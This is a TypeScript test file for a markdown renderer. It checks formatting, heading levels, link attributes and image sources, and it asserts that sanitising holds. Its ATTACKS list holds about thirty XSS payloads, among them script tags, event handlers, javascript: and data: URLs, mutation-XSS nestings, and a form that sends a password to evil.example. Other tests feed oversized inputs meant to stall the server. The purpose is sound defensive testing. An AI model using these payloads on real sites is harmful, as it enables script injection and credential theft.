import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { renderMarkdown } from '@/lib/content/markdown'
import { plainText } from '@/lib/content/plain-text'

const html = (source: string): string => renderToStaticMarkup(renderMarkdown(source))

describe('what a text may contain', () => {
  test('paragraphs, lists, emphasis and tables are shown', () => {
    expect(html('**Trees** and\n\n- shade\n- water')).toBe(
      '<p><strong>Trees</strong> and</p>\n<ul>\n<li>shade</li>\n<li>water</li>\n</ul>',
    )
    expect(html('|a|b|\n|-|-:|\n|1|2|')).toContain('<td style="text-align:right">2</td>')
  })

  test('headings stand below the heading of the page', () => {
    expect(html('# One\n\n## Two')).toBe('<h2>One</h2>\n<h3>Two</h3>')
  })

  test('headings leave no gap in the outline of the page, wherever the writer begins', () => {
    expect(html('### One\n\n##### Two')).toBe('<h2>One</h2>\n<h3>Two</h3>')
    expect(renderToStaticMarkup(renderMarkdown('## One', 3))).toBe('<h3>One</h3>')
  })

  test('links are shown without credit for their target', () => {
    expect(html('[site](https://example.org)')).toBe(
      '<p><a href="https://example.org" rel="nofollow ugc noopener">site</a></p>',
    )
    expect(html('www.example.org')).toContain('rel="nofollow ugc noopener"')
  })

  test('pictures are shown only from our own files', () => {
    expect(html('![a tree](/files/0197-ab/480)')).toContain('src="/files/0197-ab/480"')
    expect(html('![x](https://spy.example/p.gif)')).toBe('<p></p>')
    expect(html('![x](//spy.example/p.gif)')).toBe('<p></p>')
    expect(html('![x](/files/../admin)')).toBe('<p></p>')
  })
})

// X01 and X02 of the abuse cases.
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="https://evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[a](https://example.org "onmouseover=alert(1)")',
  '[a](https://example.org"onmouseover="alert(1))',
  '"><script>alert(1)</script>',
  "';alert(String.fromCharCode(88,83,83))//",
  '{{constructor.constructor("alert(1)")()}}',
  '[^1]: <script>alert(1)</script>\n\nx[^1]',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '```js"onload="alert(1)\nx\n```',
]

describe('what a text never becomes', () => {
  test.each(ATTACKS)('no script, no style, no foreign form: %s', (attack) => {
    for (const source of [attack, `Before ${attack} after`, `> ${attack}`, `**${attack}**`]) {
      const shown = html(source)
      expect(tagsOf(shown)).not.toContainEqual(
        expect.stringMatching(/^(script|style|svg|math|iframe|form|input|meta|base|xmp|noscript|details)$/),
      )
      expect(attributesOf(shown)).not.toContainEqual(expect.stringMatching(/^(on\w+|srcdoc|style|formaction)$/))
      expect(shown).not.toMatch(/(?:href|src)="(?!https?:|mailto:|\/files\/|#)[^"]*:/i)
    }
  })
})

describe('texts made to keep a server busy', () => {
  test.each([
    ['nested quotes', '>'.repeat(50_000)],
    ['nested lists', '- '.repeat(50_000)],
    ['lists by indentation', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
    ['open brackets', '['.repeat(90_000)],
    ['brackets apart', '[a '.repeat(20_000)],
    ['images', '![a]('.repeat(20_000)],
    ['brackets just below the limit', '[a '.repeat(1990)],
    ['images just below the limit', '![a]('.repeat(990)],
    ['links just below the limit', '[a](b '.repeat(990)],
    ['emphasis', '*a **b '.repeat(10_000)],
    ['backticks', Array.from({ length: 400 }, (_, length) => `${'`'.repeat(length % 40)}a`).join(' ')],
    ['tables', `|${'a|'.repeat(5000)}\n|${'-|'.repeat(5000)}`],
    ['angle brackets', '<a '.repeat(30_000)],
  ])('%s are shown in under two seconds', (_name, source) => {
    const begun = performance.now()
    html(source)
    expect(performance.now() - begun).toBeLessThan(2000)
  })
})

describe('plain text', () => {
  test('marks, links and tags are gone, and words are never cut', () => {
    expect(plainText('# Trees\n\n**Shade** for the [square](https://example.org) <b>now</b>')).toBe(
      'Trees Shade for the square now',
    )
    expect(plainText('one two three four', 12)).toBe('one two…')
  })
})

function tagsOf(markup: string): string[] {
  return [...markup.matchAll(/<([a-z][\w-]*)/gi)].map(([, name]) => (name ?? '').toLowerCase())
}

function attributesOf(markup: string): string[] {
  const tags = [...markup.matchAll(/<[a-z][^>]*>/gi)].map(([tag]) => tag.replace(/"[^"]*"/g, '""'))
  return tags.flatMap((tag) => [...tag.matchAll(/\s([\w-]+)=/g)].map(([, name]) => (name ?? '').toLowerCase()))
}
